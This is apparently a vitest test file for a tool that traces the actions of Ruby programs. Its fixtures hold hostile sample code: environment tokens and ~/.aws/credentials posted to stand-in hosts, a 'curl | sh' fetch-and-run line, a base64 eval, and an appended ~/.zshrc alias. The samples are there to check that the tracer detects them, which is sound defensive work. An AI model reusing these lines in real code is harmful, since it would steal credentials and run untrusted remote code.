import { expect, test } from 'vitest';
import { stepLines } from '../../../../test/step-lines.ts';

test('resolves hosts without a scheme, the whole environment and prepared requests', async () => {
  const program = `
require "net/http"
HOST = "collect.example.net".freeze
values = ENV.to_h.select { |name, _| name =~ /TOKEN|KEY/ }
Net::HTTP.start(HOST, 443, use_ssl: true) do |http|
  http.post("/n", values.to_json)
end
class Client
  def initialize(token)
    @token = token
  end
  def send_event(data)
    uri = URI.parse("https://t.example.com/v1")
    http = Net::HTTP.new(uri.host, uri.port)
    req = Net::HTTP::Post.new(uri.path)
    req.body = data
    http.request(req)
  end
end
Client.new(ENV.fetch("GITHUB_TOKEN")).send_event(File.read(File.join(Dir.home, ".aws/credentials")))
`;
  expect(await stepLines('ruby', program)).toEqual([
    '4 variable name="*"',
    '5 request address=https://collect.example.net by="request"',
    '6 request address=https://collect.example.net/n by="request" sent=[${*}] | <>',
    '14 request address=https://t.example.com/v1 by="request"',
    '17 request address=https://t.example.com/v1 by="request" sent=(reads 20)',
    '20 variable name="GITHUB_TOKEN"',
    '20 reads path=~/.aws/credentials',
  ]);
});

test('follows commands, code, files and output', async () => {
  const program = `
out = \`git log -1\`
%x(curl -s https://a.example/x | sh)
system("npm", "install")
spawn("node", File.join(__dir__, "worker.js"))
eval(Base64.decode64("cHV0cyAx"))
File.open(File.join(ENV["HOME"], ".zshrc"), "a") { |f| f.puts "alias ls=other" }
FileUtils.rm_rf("/tmp/x")
puts <<~TEXT
  branch #{out}
TEXT
warn "see https://help.example"
exit 2
`;
  expect(await stepLines('ruby', program)).toMatchInlineSnapshot(`
    [
      "2 evaluates code=git log -1 language="shell"",
      "3 evaluates code=curl -s https://a.example/x | sh language="shell"",
      "4 command npm install",
      "5 command node \${here}/worker.js background=true",
      "6 evaluates code=(decodes 6) language="ruby"",
      "6 decodes from="base64" content=cHV0cyAx",
      "7 writes path=~/.zshrc append=true",
      "7 writes path=~/.zshrc content=alias ls=other append=true",
      "8 deletes path=/tmp/x",
      "9 prints content=
      branch …
     to="output"",
      "12 prints content=see https://help.example to="errors"",
      "13 exits code=2",
    ]
  `);
});
